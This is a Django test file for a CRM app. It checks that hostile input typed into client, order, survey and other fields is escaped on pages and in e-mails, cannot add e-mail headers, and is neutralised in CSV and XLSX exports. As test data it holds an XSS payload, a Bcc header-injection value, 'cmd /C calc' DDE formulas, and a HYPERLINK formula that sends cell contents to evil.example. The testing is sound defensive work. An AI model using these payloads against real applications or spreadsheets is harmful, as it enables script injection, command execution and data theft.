"""Hostile text typed into every field a person can type, read back wherever it is shown.

An HTML and JavaScript payload in each text field — a client's name, contact person, e-mail,
address and notes, an order's description, a call's notes, a refusal's details, a survey's
free-text answer, a service case's problem and resolution, a manager's name — stays text on
every page (the raw payload never appears; its escaped form does), in the HTML part of an
e-mail (the plain-text part carries it as typed, as plain text should), and in a printed
letter. A formula payload in the same fields stays text in every CSV and XLSX export: a cell
starting with =, +, -, @, a tab or a carriage return gets an apostrophe in front (OWASP's
advice against CSV injection), while a number, negative ones included, stays a number.
"""

import csv
import datetime as dt
import io
import math
from decimal import Decimal
from typing import Any

import openpyxl
import pytest
from django.core import mail
from django.urls import reverse
from django.utils import timezone
from django.utils.html import escape

from clients import services as client_services
from clients.imports import FORMULA_TRIGGERS
from clients.models import Client, CommissionRule, Consent, Order, OrderStatus, Refusal
from surveys import services as survey_services
from surveys.models import ServiceCase, Survey
from tests.clients.factories import make_client, make_order
from touchpoints import messaging
from touchpoints.calls import CallReport, touchpoint_complete
from touchpoints.models import MessageTemplate, Touchpoint

PAYLOAD = "<script>alert(1)</script><img src=x onerror=alert(2)>\"'"
# What must never reach a page: the tags as they were typed.
RAW = ("<script>alert(1)", "<img src=x onerror", "<img/src=x/onerror")
# E-mail addresses allow these characters inside a quoted local part.
EMAIL = '"<script>alert(1)</script><img/src=x/onerror=alert(2)>"@example.com'


def payload(field: str) -> str:
    """The payload with a short mark of its field, so a test sees which field a page shows."""
    return f"{PAYLOAD}#{field}"


def assert_escaped(body: str, *fields: str) -> None:
    for raw in RAW:
        assert raw not in body
    for field in fields:
        assert escape(payload(field)) in body, field


@pytest.fixture
def hostile(sales, account, director) -> dict[str, Any]:
    """Sasha's client with the payload in every field, and everything that shows it: an order
    (handed to Anna), two calls (one made), a refusal, a survey answer, a resolved service
    case, a letter to print."""
    sales.first_name = payload("sm")
    sales.save()
    client = make_client(
        originator=sales,
        by=sales,
        name=payload("nm"),
        contact_person=payload("cp"),
        email=EMAIL,
        postal_address=payload("ad"),
        notes=payload("no"),
        phones=["+79123456789"],
        language="en",
    )
    order = make_order(client, by=sales, external_id="SHOP-1", description=payload("ds"))
    client_services.order_record_event(
        order=order, type=OrderStatus.DELIVERED, at=timezone.now(), by=sales
    )
    made, due = (
        Touchpoint.objects.create(
            client=client,
            order=order,
            anchor_key=f"payload-call-{hours}",
            channel="call",
            due_at=timezone.now() - dt.timedelta(hours=hours),
            assignee=sales,
            purpose="Check in",
        )
        for hours in (3, 1)
    )
    touchpoint_complete(
        touchpoint=made,
        report=CallReport(
            outcome="reached",
            satisfaction=4,
            note=payload("cl"),
            next_contact_on=timezone.localdate() + dt.timedelta(days=30),
        ),
        by=sales,
    )
    survey = Survey.objects.get(slug="after-delivery")
    answers = {"score": "2", "nps": "0", "text": payload("sv")}
    survey_services.survey_answer(
        invitation=survey_services.invitation_for(survey=survey, client=client, order=order),
        data={str(q.pk): answers[q.kind] for q in survey.questions.all() if q.kind in answers},
    )
    case = survey_services.service_case_record(
        client=client,
        by=sales,
        order=order,
        opened_on=timezone.localdate(),
        problem=payload("pr"),
        severity=ServiceCase.Severity.MEDIUM,
    )
    survey_services.service_case_resolve(
        case=case, resolution=payload("rs"), satisfaction=4, by=sales
    )
    client_services.refusal_record(
        client=client, reason=Refusal.Reason.PRICE, details=payload("rf"), by=sales
    )
    MessageTemplate.objects.create(
        slug="card",
        channel="post",
        language="en",
        body_text="Dear {{ client.name }}",
        body_html="<p>Dear {{ client.name }}, {{ order.description }}</p>",
    )
    letter = Touchpoint.objects.create(
        client=client,
        order=order,
        anchor_key="payload-card",
        channel="post",
        due_at=timezone.now() - dt.timedelta(days=1),
        assignee=sales,
        purpose="Three-month card",
        template_slug="card",
    )
    return {"client": client, "order": order, "call": due, "case": case, "letter": letter}


def page(client, user, url: str) -> str:
    client.force_login(user)
    response = client.get(url)
    assert response.status_code == 200, url
    return response.content.decode()


# --- pages ---------------------------------------------------------------------------------


def test_the_client_list_shows_the_payload_as_text(client, sales, hostile):
    assert_escaped(page(client, sales, reverse("clients:list")), "nm", "cp")


def test_the_client_card_and_timeline_show_the_payload_as_text(client, sales, hostile):
    body = page(client, sales, reverse("clients:detail", args=[hostile["client"].pk]))

    assert_escaped(body, "nm", "cp", "ad", "no", "ds", "cl", "sv", "pr", "rf")
    assert escape(EMAIL) in body


def test_the_call_list_row_shows_the_payload_as_text(client, sales, hostile):
    assert_escaped(page(client, sales, reverse("touchpoints:calls")), "nm", "cl")
    # The order's items show when the row is opened, with the client's context.
    opened = reverse("touchpoints:call_forms", args=[hostile["call"].pk])
    assert_escaped(page(client, sales, opened), "ds")


def test_the_call_page_shows_the_payload_as_text(client, sales, hostile):
    url = reverse("touchpoints:call_detail", args=[hostile["call"].pk])

    assert_escaped(page(client, sales, url), "nm", "ds", "cl")


def test_the_handoff_inbox_shows_the_payload_as_text(client, account, hostile):
    assert_escaped(page(client, account, reverse("clients:handoffs")), "nm", "ds", "no", "sm")


def test_the_reports_show_a_managers_name_as_text(client, director, hostile):
    # The discipline and commission tables, and their charts, name the managers.
    assert_escaped(page(client, director, reverse("reports:dashboard")), "sm")


def test_the_service_case_page_shows_the_payload_as_text(client, sales, hostile):
    url = reverse("surveys:service_case", args=[hostile["case"].pk])

    assert_escaped(page(client, sales, url), "nm", "pr", "rs")


def test_the_printed_letters_show_the_payload_as_text(client, sales, hostile):
    url = f"{reverse('touchpoints:postal_print')}?id={hostile['letter'].pk}"

    assert_escaped(page(client, sales, url), "nm", "ad", "ds")


def test_the_clients_order_page_shows_the_payload_as_text(client, hostile):
    link = survey_services.order_link_for(order=hostile["order"])

    response = client.get(reverse("surveys:order", args=[link.token]))

    assert response.status_code == 200
    assert_escaped(response.content.decode(), "ds")


# --- e-mails -------------------------------------------------------------------------------


def test_an_email_escapes_the_payload_in_html_and_keeps_it_plain_in_text(hostile):
    template = MessageTemplate.objects.create(
        slug="hello",
        channel="email",
        language="en",
        subject="For {{ client.name }}",
        body_text="Dear {{ client.name }}, {{ order.description }}. {{ manager.get_full_name }}",
        body_html=(
            "<p>Dear {{ client.name }}, {{ order.description }}.</p>"
            "<p>{{ manager.get_full_name }}, {{ client.email }}</p>"
        ),
    )
    client, order = hostile["client"], hostile["order"]
    message = messaging.render_template(
        template, messaging.context_for(client, order, client.originator), "en"
    )
    message.recipient = "olga@example.com"

    messaging.send(message)

    sent = mail.outbox[-1]
    html, mimetype = sent.alternatives[0]
    assert mimetype == "text/html"
    assert_escaped(html, "nm", "ds", "sm")
    assert escape(EMAIL) in html
    # The plain part is not HTML: the text is as typed, with nothing escaped into it.
    assert sent.body == f"Dear {payload('nm')}, {payload('ds')}. {payload('sm')}"
    assert sent.subject == f"For {payload('nm')}"


def test_a_name_cannot_add_headers_to_an_email(hostile):
    template = MessageTemplate.objects.create(
        slug="hello", channel="email", language="en", subject="For {{ client.name }}"
    )
    client = hostile["client"]
    client.name = "Olga\r\nBcc: everyone@example.com"
    message = messaging.render_template(template, messaging.context_for(client), "en")
    message.recipient = "olga@example.com"

    messaging.send(message)

    sent = mail.outbox[-1]
    assert sent.subject == "For Olga Bcc: everyone@example.com"
    assert sent.bcc == []
    assert "\nBcc:" not in sent.message().as_string()


# --- exports -------------------------------------------------------------------------------

FORMULAS = {
    "name": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "contact_person": "+1+cmd|' /C calc'!A0",
    "postal_address": "-2+3",
    "notes": "@SUM(1+1)*cmd|' /C calc'!A0",
}


@pytest.fixture
def formula_client(sales, account) -> Client:
    sales.first_name = '=HYPERLINK("http://evil.example")'
    sales.save()
    client = make_client(
        originator=sales, account_manager=account, phones=["+79123456789"], **FORMULAS
    )
    # A second purchase earns Sasha a commission: the commissions table names him.
    CommissionRule.objects.create(percentage=Decimal("5"), effective_from=dt.date(2020, 1, 1))
    make_order(client, by=sales, placed_at=timezone.now() - dt.timedelta(days=2))
    make_order(client, by=sales)
    return client


def csv_cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))


def xlsx_cells(content: bytes) -> list[list[openpyxl.cell.Cell]]:
    return [list(row) for row in openpyxl.load_workbook(io.BytesIO(content)).active.iter_rows()]


def assert_no_formula_in_csv(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_TRIGGERS) or is_number(cell), cell


def assert_no_formula_in_xlsx(rows: list[list[openpyxl.cell.Cell]]) -> None:
    for row in rows:
        for cell in row:
            assert cell.data_type != "f", cell.value
            if isinstance(cell.value, str):
                assert not cell.value.startswith(FORMULA_TRIGGERS), cell.value


def is_number(text: str) -> bool:
    """A number a spreadsheet reads as a number, such as -100: not a formula."""
    try:
        return math.isfinite(float(text))
    except ValueError:
        return False


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_the_client_export_neutralises_formulas(client, director, formula_client, file_format):
    client.force_login(director)

    response = client.get(reverse("clients:export"), {"format": file_format})

    content = b"".join(response.streaming_content) if file_format == "csv" else response.content
    if file_format == "csv":
        header, *rows = csv_cells(content.decode("utf-8"))
        assert_no_formula_in_csv([header, *rows])
        row = dict(zip(header, rows[0], strict=True))
    else:
        cells = xlsx_cells(content)
        assert_no_formula_in_xlsx(cells)
        header = [cell.value for cell in cells[0]]
        row = dict(zip(header, [cell.value for cell in cells[1]], strict=True))
    for field, formula in FORMULAS.items():
        assert row[field] == "'" + formula
    assert row["phones"] == "'+79123456789"
    assert row["client_id"] in (formula_client.pk, str(formula_client.pk))


@pytest.fixture
def detractor(formula_client) -> Client:
    """An answer of 0 out of 10: the NPS of the month is -100, a negative number to export."""
    order = Order.objects.filter(client=formula_client).first()
    survey = Survey.objects.get(slug="after-delivery")
    invitation = survey_services.invitation_for(survey=survey, client=formula_client, order=order)
    nps = survey.questions.get(kind="nps")
    score = survey.questions.get(kind="score")
    survey_services.survey_answer(
        invitation=invitation, data={str(nps.pk): "0", str(score.pk): "1"}
    )
    return formula_client


def report_export(client, table: str, file_format: str) -> bytes:
    response = client.get(reverse("reports:export", args=[table]), {"format": file_format})
    assert response.status_code == 200
    return response.content


def test_the_report_csv_neutralises_names_and_keeps_negative_numbers(client, director, detractor):
    client.force_login(director)

    commissions = csv_cells(report_export(client, "commissions", "csv").decode())
    by_month = csv_cells(report_export(client, "satisfaction_by_month", "csv").decode())

    assert_no_formula_in_csv(commissions)
    assert commissions[1][0] == '\'=HYPERLINK("http://evil.example")'
    nps = by_month[0].index("NPS")
    assert by_month[1][nps] == "-100"


def test_the_report_xlsx_neutralises_names_and_keeps_negative_numbers(client, director, detractor):
    client.force_login(director)

    commissions = xlsx_cells(report_export(client, "commissions", "xlsx"))
    by_month = xlsx_cells(report_export(client, "satisfaction_by_month", "xlsx"))

    assert_no_formula_in_xlsx(commissions)
    assert commissions[1][0].value == '\'=HYPERLINK("http://evil.example")'
    nps = [cell.value for cell in by_month[0]].index("NPS")
    assert by_month[1][nps].value == -100
    assert by_month[1][nps].data_type == "n"


def test_the_consent_history_neutralises_formulas(client, director, formula_client):
    client_services.consent_record(
        client=formula_client,
        channel="email",
        granted=True,
        method=Consent.Method.values[0],
        note="=cmd|' /C calc'!A0",
        by=director,
    )
    client.force_login(director)

    response = client.get(reverse("clients:consent_export", args=[formula_client.pk]))

    rows = csv_cells(response.content.decode())
    assert_no_formula_in_csv(rows)
    assert rows[1][rows[0].index("note")] == "'=cmd|' /C calc'!A0"
